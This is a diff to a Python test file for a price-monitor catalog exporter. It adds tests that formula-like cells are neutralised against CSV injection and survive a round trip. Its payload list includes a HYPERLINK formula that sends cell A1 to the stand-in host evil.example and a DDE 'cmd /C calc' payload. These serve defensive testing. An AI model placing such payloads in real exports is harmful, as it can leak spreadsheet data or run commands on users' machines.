@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import os
 from decimal import Decimal
 from typing import Any
@@ -16,6 +17,7 @@ from monitor.catalog import CatalogItem, InvalidCatalogItemError
 from price_monitor.catalog_file import (
     BATCH_SIZE,
     COLUMNS,
+    FORMULA_TRIGGERS,
     MAX_WRITE_ATTEMPTS,
     CatalogFileError,
     CatalogImportError,
@@ -23,8 +25,10 @@ from price_monitor.catalog_file import (
     RowProblem,
     backoff_seconds,
     import_catalog,
+    neutralise_formula,
     parse_catalog,
     read_catalog,
+    restore_formula,
     write_catalog,
 )
 
@@ -473,3 +477,127 @@ def test_rows_listing_a_product_twice_are_refused_before_any_write():
         import_catalog(table, [row, row])
 
     assert table.calls == []
+
+
+# --- formulas (OWASP CSV injection) -------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+]
+
+
+def test_formula_like_cells_are_written_as_text_and_read_back_as_they_were(tmp_path):
+    rows = [
+        CatalogRow(f"p{index}", "shop-a", "https://shop-a.example/k", name)
+        for index, name in enumerate(FORMULAS)
+    ]
+    rows.append(CatalogRow("=1+1", "shop-a", "https://shop-a.example/k"))  # in a product_id
+    path = tmp_path / "catalog.csv"
+
+    write_catalog(rows, path)
+
+    with path.open(encoding="utf-8", newline="") as stream:
+        cells = [cell for record in list(csv.reader(stream))[1:] for cell in record[:4]]
+    live = [cell for cell in cells if cell and cell[0] in FORMULA_TRIGGERS]
+    assert live == []  # 11 formula-like cells, none left for a spreadsheet to run
+    assert sum(cell.startswith("'") for cell in cells) == 11
+    assert read_catalog(path) == rows
+
+
+def test_a_quote_before_a_formula_in_the_data_survives_the_round_trip(tmp_path):
+    rows = [
+        CatalogRow("a", "shop-a", "https://shop-a.example/a", "'=kept with its quote"),
+        CatalogRow("b", "shop-a", "https://shop-a.example/b", "''+two quotes"),
+        CatalogRow("c", "shop-a", "https://shop-a.example/c", "'quoted and no formula"),
+    ]
+    path = tmp_path / "catalog.csv"
+
+    write_catalog(rows, path)
+
+    assert "'''+two quotes" in path.read_text(encoding="utf-8")
+    assert ",'quoted and no formula," in path.read_text(encoding="utf-8")
+    assert read_catalog(path) == rows
+
+
+def test_a_spreadsheets_quoted_formula_reads_as_the_text_after_the_quote():
+    (row,) = parse_catalog(csv_text("'-p1,shop-a,https://shop-a.example/k,'=SUM(A1),,,"))
+
+    assert (row.product_id, row.name) == ("-p1", "=SUM(A1)")
+
+
+def test_numeric_columns_are_numbers_never_unquoted_text():
+    negative = problems_of(csv_text("p1,shop-a,https://shop-a.example/k,,,-5,"))
+    quoted = problems_of(csv_text("p1,shop-a,https://shop-a.example/k,,,'-5,"))
+
+    assert negative == [RowProblem(2, "target_price", "-5 is not a positive price")]
+    assert quoted == [RowProblem(2, "target_price", '"\'-5" is not a number')]
+
+
+def test_a_text_cell_is_quoted_exactly_when_it_would_be_unquoted():
+    assert [neutralise_formula(text) for text in ("=1", "'=1", "'1", "", "a=1")] == [
+        "'=1",
+        "''=1",
+        "'1",
+        "",
+        "a=1",
+    ]
+    assert [restore_formula(text) for text in ("'=1", "''=1", "'1", "'", "=1")] == [
+        "=1",
+        "'=1",
+        "'1",
+        "'",
+        "=1",
+    ]
+
+
+formula_like = st.builds(
+    lambda quotes, trigger, rest: quotes + trigger + rest,
+    st.text(st.just("'"), max_size=3),
+    st.sampled_from(sorted(FORMULA_TRIGGERS)),
+    names,
+)
+# A name as the file reads it: its cell, once neutralised, has no surrounding spaces.
+formula_names = st.one_of(names, formula_like).filter(
+    lambda name: neutralise_formula(name).strip() == neutralise_formula(name)
+)
+
+
+@settings(max_examples=80, deadline=None)
+@given(
+    st.lists(
+        st.builds(
+            CatalogRow,
+            product_id=st.one_of(
+                st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._#:/-]{0,30}", fullmatch=True),
+                st.from_regex(r"['=+@-]{1,3}[A-Za-z0-9]{1,10}", fullmatch=True),
+            ),
+            retailer=st.from_regex(catalog_rules.RETAILER_NAME, fullmatch=True),
+            url=st.sampled_from(["https://shop.example/=1", "http://[::1]:8080/x"]),
+            name=formula_names.map(lambda name: name or None),
+            drop_threshold_percent=st.none() | numbers,
+            target_price=st.none() | numbers,
+            active=st.booleans(),
+        ),
+        max_size=5,
+        unique_by=lambda row: row.product_id,
+    )
+)
+def test_export_then_import_is_the_identity_for_formula_like_text(tmp_path_factory, rows):
+    path = tmp_path_factory.mktemp("catalog") / "catalog.csv"
+
+    write_catalog(rows, path)
+
+    assert read_catalog(path) == rows
+    with path.open(encoding="utf-8", newline="") as stream:
+        assert not any(
+            cell[:1] in FORMULA_TRIGGERS for record in csv.reader(stream) for cell in record[:4]
+        )
